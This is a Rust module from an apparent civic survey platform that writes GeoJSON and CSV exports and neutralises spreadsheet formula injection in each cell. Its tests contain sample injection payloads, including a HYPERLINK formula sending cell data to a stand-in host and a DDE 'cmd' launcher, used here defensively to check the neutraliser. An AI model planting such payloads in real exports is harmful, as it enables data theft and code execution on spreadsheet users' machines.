//! Files planners open in QGIS, GDAL and Excel: GeoJSON (RFC 7946) and CSV (RFC 4180, UTF-8,
//! header row), with a French-Excel flavour (BOM, `;` separator, decimal comma).
//!
//! Every CSV cell goes through [`CsvWriter`], which neutralises text a spreadsheet would run
//! as a formula (a citizen's `=HYPERLINK(...)` answer opened by a planner in Excel).

use serde_json::{Map, Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::{Aggregate, Basis, By};
use crate::figures::PublishedCount;

/// The file format of an export (aggregates, raw submissions): GeoJSON, or CSV in a flavour.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// RFC 7946 GeoJSON.
    GeoJson,
    /// CSV with a header row.
    Csv(Csv),
}

impl Format {
    /// CSV or GeoJSON; `excel` asks for the French-Excel flavour of CSV.
    pub fn new(csv: bool, excel: bool) -> Self {
        if csv {
            Format::Csv(Csv::from_excel(excel))
        } else {
            Format::GeoJson
        }
    }

    /// The response's `Content-Type`.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::GeoJson => "application/geo+json",
            Format::Csv(_) => "text/csv; charset=utf-8; header=present",
        }
    }

    /// The file name's extension.
    pub fn extension(self) -> &'static str {
        match self {
            Format::GeoJson => "geojson",
            Format::Csv(_) => "csv",
        }
    }

    /// Its name in the audit log: `geojson`, `csv` or `excelcsv`.
    pub fn name(self) -> &'static str {
        match self {
            Format::GeoJson => "geojson",
            Format::Csv(Csv::Standard) => "csv",
            Format::Csv(Csv::Excel) => "excelcsv",
        }
    }
}

/// CSV flavours.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Csv {
    /// RFC 4180: `,` separator, `.` decimals, no BOM.
    Standard,
    /// What French Excel opens with a double click: UTF-8 BOM, `;` separator, `,` decimals.
    Excel,
}

impl Csv {
    /// The flavour `?excel=1` asks for.
    pub fn from_excel(excel: bool) -> Self {
        if excel { Csv::Excel } else { Csv::Standard }
    }

    /// A CSV writer over `out` in this flavour; the BOM is written first for Excel.
    pub fn writer<W: std::io::Write>(self, mut out: W) -> std::io::Result<CsvWriter<W>> {
        if self == Csv::Excel {
            out.write_all("\u{feff}".as_bytes())?;
        }
        Ok(self.rows(out))
    }

    /// A CSV writer over `out` in this flavour, without the BOM (for rows after the header).
    pub fn rows<W: std::io::Write>(self, out: W) -> CsvWriter<W> {
        CsvWriter {
            flavour: self,
            inner: csv::WriterBuilder::new()
                .delimiter(if self == Csv::Excel { b';' } else { b',' })
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        }
    }

    /// A number exactly as stored (the shortest text that reads back to the same value).
    pub fn exact(self, x: f64) -> String {
        let text = x.to_string();
        if self == Csv::Excel {
            text.replace('.', ",")
        } else {
            text
        }
    }

    /// A decimal number with at most `decimals` digits after the separator.
    pub fn number(self, x: f64, decimals: usize) -> String {
        let text = format!("{x:.decimals$}");
        let text = if text.contains('.') {
            text.trim_end_matches('0').trim_end_matches('.').to_owned()
        } else {
            text
        };
        if self == Csv::Excel {
            text.replace('.', ",")
        } else {
            text
        }
    }
}

/// A CSV writer whose every cell is safe to open in a spreadsheet: see [`neutralize`].
pub struct CsvWriter<W: std::io::Write> {
    flavour: Csv,
    inner: csv::Writer<W>,
}

impl<W: std::io::Write> CsvWriter<W> {
    /// Writes one row, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let flavour = self.flavour;
        self.inner.write_record(
            record
                .into_iter()
                .map(|cell| neutralize(cell.as_ref(), flavour).into_owned()),
        )
    }

    /// Flushes what was written to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer.
    pub fn get_ref(&self) -> &W {
        self.inner.get_ref()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// A cell as a spreadsheet may show it but never run: text starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return (OWASP's list of what Excel, LibreOffice and Google Sheets
/// treat as a formula) gets a leading `'`, which they read as "this is text". Numbers
/// (`-2.5`, and `-2,5` in the French-Excel flavour) are left as they are.
pub fn neutralize(cell: &str, flavour: Csv) -> std::borrow::Cow<'_, str> {
    let risky = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if !risky || is_number(cell, flavour) {
        std::borrow::Cow::Borrowed(cell)
    } else {
        std::borrow::Cow::Owned(format!("'{cell}"))
    }
}

/// Whether `cell` is a plain decimal number as this module writes them (`-12`, `-0.5`, and
/// `-0,5` for Excel): digits with at most one separator, an optional leading sign.
fn is_number(cell: &str, flavour: Csv) -> bool {
    let separator = if flavour == Csv::Excel { ',' } else { '.' };
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, separator);
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// The column (CSV) or property (GeoJSON) of a breakdown value.
fn value_column(field: &str, value: &str) -> String {
    if value.is_empty() {
        format!("{field}=(no answer)")
    } else {
        format!("{field}={value}")
    }
}

/// A column's name as the aggregate publishes it: `estimate_{name}` when the public's figures
/// finer than district totals are estimates, so that no reader takes them for exact counts.
fn finer(aggregate: &Aggregate, name: String) -> String {
    if aggregate.estimated() {
        format!("estimate_{name}")
    } else {
        name
    }
}

fn count_json(count: PublishedCount) -> Value {
    count.count.map_or(Value::Null, Value::from)
}

fn rfc3339(t: OffsetDateTime) -> Value {
    t.format(&Rfc3339).map_or(Value::Null, Value::from)
}

/// What an aggregate says of its figures: for the public's, how the estimates were made; for
/// staff's, that they are exact and not for publication.
fn provenance(aggregate: &Aggregate) -> Value {
    match &aggregate.basis {
        Basis::Exact => json!({
            "exact": true,
            "note": "Exact figures for the city's staff, without k: not for publication.",
        }),
        Basis::Public(release) => json!({
            "exact": false,
            "method": "District totals are exact and live, withheld below k distinct contributors (with complementary suppression). Every figure finer than a district (estimate_…) is an estimate released with differential privacy: each contribution is counted once, by one release, with discrete Laplace noise (OpenDP's exact sampler); estimates are made to add up to the published totals, rounded, at least 0, and not shown below k.",
            // Rounded up: a reader never sees less than what was spent.
            "epsilon": release.as_ref().map_or(Value::Null, |r| json!((r.epsilon * 1e6).ceil() / 1e6)),
            "released_at": release.as_ref().map_or(Value::Null, |r| rfc3339(r.released_at)),
            "counts_contributions_before": release.as_ref().map_or(Value::Null, |r| rfc3339(r.period_end)),
            "releases": release.as_ref().map_or(0, |r| r.releases),
            "next_release": release.as_ref().map_or(Value::Null, |r| rfc3339(r.next_release)),
        }),
    }
}

/// The aggregates as a GeoJSON FeatureCollection. Each feature's properties are flat (GDAL
/// and QGIS read them as columns): the area's key, `count` (`null` when withheld) and
/// `withheld`, the district's `target`, `progress`, `households` and `per_1000_households`
/// (withheld with the count), `sum_{field}`, and one `{field}={answer}` count per answer of a
/// breakdown; for the public, the figures finer than district totals are estimates, named
/// `estimate_…` (a hexagon's count is `estimate_count`). `estimates` (or `exact`) at the top
/// says how they were made.
pub fn geojson(aggregate: &Aggregate, slug: &str) -> Value {
    let request = &aggregate.request;
    let features: Vec<Value> = aggregate
        .areas
        .iter()
        .map(|area| {
            let mut p = Map::new();
            match request.by {
                By::District => {
                    p.insert("code".into(), area.key.clone().into());
                    p.insert("name".into(), area.name.clone().into());
                    p.insert("count".into(), count_json(area.count));
                    p.insert("withheld".into(), area.count.withheld.into());
                }
                By::H3(r) => {
                    p.insert("h3".into(), area.key.clone().into());
                    p.insert("resolution".into(), u8::from(r).into());
                    let codes: Vec<&str> = area.parts.iter().map(|(c, _)| c.as_str()).collect();
                    p.insert("districts".into(), codes.join(",").into());
                    p.insert(finer(aggregate, "count".into()), count_json(area.count));
                }
            }
            if request.by == By::District {
                p.insert(
                    "target".into(),
                    area.target.map_or(Value::Null, Value::from),
                );
                p.insert(
                    "progress".into(),
                    area.progress()
                        .map_or(Value::Null, |x| json!((x * 1e4).round() / 1e4)),
                );
                p.insert(
                    "households".into(),
                    area.households.map_or(Value::Null, Value::from),
                );
                p.insert(
                    "per_1000_households".into(),
                    area.per_thousand().map_or(Value::Null, |x| json!(x)),
                );
            }
            if let Some(field) = &request.sum {
                p.insert(
                    finer(aggregate, format!("sum_{field}")),
                    area.sum.map_or(Value::Null, |s| json!(s)),
                );
            }
            if let Some(field) = &request.breakdown {
                for (value, count) in aggregate.values.iter().zip(&area.breakdown) {
                    p.insert(
                        finer(aggregate, value_column(field, value)),
                        count_json(*count),
                    );
                }
            }
            let mut feature =
                json!({"type": "Feature", "properties": p, "geometry": area.geometry});
            if !area.key.is_empty() {
                feature["id"] = area.key.clone().into();
            }
            feature
        })
        .collect();
    let mut collection = json!({
        "type": "FeatureCollection",
        "features": features,
        "campaign": slug,
        "by": request.by.as_query(),
        "min_count": aggregate.k,
        "attribution": crate::campaigns::ATTRIBUTION,
    });
    let total = json!({"count": count_json(aggregate.total), "withheld": aggregate.total.withheld});
    match request.by {
        By::District => collection["total"] = total,
        // The hexagons listed, added up: an estimate too.
        By::H3(_) => collection[finer(aggregate, "total".into())] = total,
    }
    collection[if aggregate.estimated() {
        "estimates"
    } else {
        "figures"
    }] = provenance(aggregate);
    if let Some(field) = &request.breakdown {
        let totals: Map<String, Value> = aggregate
            .values
            .iter()
            .zip(&aggregate.value_totals)
            .map(|(v, c)| (finer(aggregate, value_column(field, v)), count_json(*c)))
            .collect();
        collection["breakdown_totals"] = Value::Object(totals);
    }
    if let Some(field) = &request.sum {
        collection[finer(aggregate, format!("sum_{field}"))] =
            aggregate.sum_total.map_or(Value::Null, |s| json!(s));
    }
    for (name, instant) in [("from", request.from), ("to", request.to)] {
        if let Some(t) = instant {
            collection[name] = rfc3339(t);
        }
    }
    collection
}

/// The aggregates as CSV: one row per area, with `lon`/`lat` columns holding a point inside
/// it (empty for "outside every district"). A withheld count is an empty cell, and its
/// `withheld` column says `true`. The public's estimates are in `estimate_…` columns.
pub fn csv(aggregate: &Aggregate, flavour: Csv) -> std::io::Result<Vec<u8>> {
    let request = &aggregate.request;
    let mut out = flavour.writer(Vec::new())?;
    let mut header: Vec<String> = match request.by {
        By::District => [
            "code",
            "name",
            "count",
            "withheld",
            "target",
            "progress",
            "households",
            "per_1000_households",
        ]
        .map(String::from)
        .to_vec(),
        By::H3(_) => vec![
            "h3".into(),
            "resolution".into(),
            "districts".into(),
            finer(aggregate, "count".into()),
        ],
    };
    header.extend(["lon".to_owned(), "lat".to_owned()]);
    if let Some(field) = &request.sum {
        header.push(finer(aggregate, format!("sum_{field}")));
    }
    if let Some(field) = &request.breakdown {
        header.extend(
            aggregate
                .values
                .iter()
                .map(|v| finer(aggregate, value_column(field, v))),
        );
    }
    out.write_record(&header)?;
    let count = |c: PublishedCount| c.count.map(|n| n.to_string()).unwrap_or_default();
    for area in &aggregate.areas {
        let mut row: Vec<String> = match request.by {
            By::District => vec![
                area.key.clone(),
                area.name.clone(),
                count(area.count),
                area.count.withheld.to_string(),
                area.target.map(|t| t.to_string()).unwrap_or_default(),
                area.progress()
                    .map(|p| flavour.number(p, 4))
                    .unwrap_or_default(),
                area.households.map(|h| h.to_string()).unwrap_or_default(),
                area.per_thousand()
                    .map(|r| flavour.number(r, 1))
                    .unwrap_or_default(),
            ],
            By::H3(r) => vec![
                area.key.clone(),
                u8::from(r).to_string(),
                area.parts
                    .iter()
                    .map(|(c, _)| c.as_str())
                    .collect::<Vec<_>>()
                    .join(","),
                count(area.count),
            ],
        };
        match area.center {
            Some([lon, lat]) => {
                row.push(flavour.number(lon, 6));
                row.push(flavour.number(lat, 6));
            }
            None => row.extend([String::new(), String::new()]),
        }
        if request.sum.is_some() {
            row.push(area.sum.map(|s| flavour.number(s, 6)).unwrap_or_default());
        }
        row.extend(area.breakdown.iter().map(|c| count(*c)));
        out.write_record(&row)?;
    }
    out.into_inner()
}

// ---------------------------------------------------------------- the raw export

/// Writes the raw export in a format: a header, one row at a time, a footer.
pub struct RawWriter {
    format: Format,
    fields: Vec<String>,
    first: bool,
    /// One CSV writer for every row, its bytes moved out after each.
    rows: CsvWriter<Drain>,
}

/// The CSV writer's output, emptied into the current chunk after each row.
#[derive(Default)]
struct Drain(std::cell::RefCell<Vec<u8>>);

impl std::io::Write for Drain {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.get_mut().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// A published submission as the raw export writes it (read by `raw::stream`).
pub struct RawRow {
    pub(super) id: uuid::Uuid,
    pub(super) created_at: OffsetDateTime,
    pub(super) code: Option<String>,
    pub(super) name: Option<String>,
    pub(super) lon: f64,
    pub(super) lat: f64,
    pub(super) answers: sqlx::types::Json<Map<String, Value>>,
}

impl RawWriter {
    /// A writer of `format` whose CSV columns after the fixed ones are `fields`.
    pub fn new(format: Format, fields: Vec<String>) -> Self {
        let flavour = match format {
            Format::Csv(flavour) => flavour,
            Format::GeoJson => Csv::Standard,
        };
        Self {
            format,
            fields,
            first: true,
            rows: flavour.rows(Drain::default()),
        }
    }

    fn csv(&self) -> Csv {
        match self.format {
            Format::Csv(flavour) => flavour,
            Format::GeoJson => Csv::Standard,
        }
    }

    /// What comes before the first row.
    pub fn header(&mut self, slug: &str) -> std::io::Result<Vec<u8>> {
        match self.format {
            Format::GeoJson => Ok(format!(
                "{{\"type\":\"FeatureCollection\",\"campaign\":{},\"attribution\":{},\"features\":[",
                Value::from(slug),
                Value::from(crate::campaigns::ATTRIBUTION)
            )
            .into_bytes()),
            Format::Csv(_) => {
                let mut w = self.csv().writer(Vec::new())?;
                let mut header: Vec<&str> = vec!["id", "created_at", "district_code", "district_name", "lon", "lat"];
                header.extend(self.fields.iter().map(String::as_str));
                w.write_record(&header)?;
                w.into_inner()
            }
        }
    }

    /// Appends `row` to `out`.
    pub fn row(&mut self, out: &mut Vec<u8>, row: RawRow) -> std::io::Result<()> {
        let RawRow {
            id,
            created_at,
            code,
            name,
            lon,
            lat,
            answers,
        } = row;
        let created_at = created_at.format(&Rfc3339).unwrap_or_default();
        match self.format {
            Format::GeoJson => {
                if !self.first {
                    out.push(b',');
                }
                self.first = false;
                let mut properties = Map::new();
                properties.insert("id".into(), id.to_string().into());
                properties.insert("created_at".into(), created_at.into());
                properties.insert("district".into(), code.map_or(Value::Null, Value::from));
                properties.insert(
                    "district_name".into(),
                    name.map_or(Value::Null, Value::from),
                );
                properties.extend(answers.0);
                serde_json::to_writer(
                    &mut *out,
                    &json!({"type": "Feature", "id": id.to_string(), "properties": properties,
                            "geometry": {"type": "Point", "coordinates": [lon, lat]}}),
                )?;
            }
            Format::Csv(_) => {
                let csv = self.csv();
                let mut record = vec![
                    id.to_string(),
                    created_at,
                    code.unwrap_or_default(),
                    name.unwrap_or_default(),
                    csv.exact(lon),
                    csv.exact(lat),
                ];
                for field in &self.fields {
                    record.push(match answers.0.get(field) {
                        None | Some(Value::Null) => String::new(),
                        Some(Value::String(s)) => s.clone(),
                        Some(Value::Number(n)) => csv.number(n.as_f64().unwrap_or_default(), 9),
                        Some(other) => other.to_string(),
                    });
                }
                self.rows.write_record(&record)?;
                self.rows.flush()?;
                out.append(&mut self.rows.get_ref().0.borrow_mut());
            }
        }
        Ok(())
    }

    /// What comes after the last row.
    pub fn footer(&self) -> Vec<u8> {
        match self.format {
            Format::GeoJson => b"]}\n".to_vec(),
            Format::Csv(_) => Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn excel_numbers_use_a_decimal_comma() {
        assert_eq!(Csv::Excel.number(2.2069, 6), "2,2069");
        assert_eq!(Csv::Standard.number(2.2069, 6), "2.2069");
        assert_eq!(Csv::Standard.number(3.0, 4), "3");
        assert_eq!(Csv::Excel.number(0.125, 4), "0,125");
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for flavour in [Csv::Standard, Csv::Excel] {
            for formula in [
                "=HYPERLINK(\"https://evil.example/?\"&E2,\"x\")",
                "+1+1",
                "-1+cmd|' /C calc'!A0",
                "@SUM(A1:A9)",
                "\t=1",
                "\r=1",
                "-",
                "+33 1 23 45 67 89",
            ] {
                assert_eq!(neutralize(formula, flavour), format!("'{formula}"));
            }
            for plain in ["", "fibre", "12", "a=b", "'=already text"] {
                assert_eq!(neutralize(plain, flavour), plain);
            }
        }
        assert_eq!(neutralize("-2.5", Csv::Standard), "-2.5");
        assert_eq!(neutralize("-2,5", Csv::Excel), "-2,5");
        assert_eq!(neutralize("-2,5", Csv::Standard), "'-2,5");
        assert_eq!(neutralize("-12", Csv::Excel), "-12");
    }

    proptest::proptest! {
        /// Whatever a citizen types, no cell read back from our CSV starts a formula.
        #[test]
        fn no_exported_cell_can_start_a_formula(cells in proptest::collection::vec(".*", 1..6), excel: bool) {
            let flavour = Csv::from_excel(excel);
            let mut w = flavour.writer(Vec::new()).unwrap();
            // A header first, as in every export (a reader takes a BOM at the very start for
            // the file's, not the first cell's).
            w.write_record(cells.iter().map(|_| "h")).unwrap();
            w.write_record(&cells).unwrap();
            let bytes = w.into_inner().unwrap();
            let text = String::from_utf8(bytes).unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(if excel { b';' } else { b',' })
                .from_reader(if excel { text.strip_prefix('\u{feff}').unwrap() } else { &text }.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            proptest::prop_assert_eq!(record.len(), cells.len());
            for (read, written) in record.iter().zip(&cells) {
                let starts_formula = read
                    .chars()
                    .next()
                    .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
                proptest::prop_assert!(!starts_formula || is_number(read, flavour), "{read:?}");
                // Nothing is lost: the cell is what was written, or it with a leading `'`.
                proptest::prop_assert!(read == written || read == format!("'{}", written), "{:?}", read);
            }
        }
    }

    #[test]
    fn excel_files_start_with_a_bom_and_use_semicolons() {
        let mut w = Csv::Excel.writer(Vec::new()).unwrap();
        w.write_record(["a;b", "c"]).unwrap();
        let bytes = w.into_inner().unwrap();
        assert_eq!(bytes, "\u{feff}\"a;b\";c\r\n".as_bytes());
    }
}
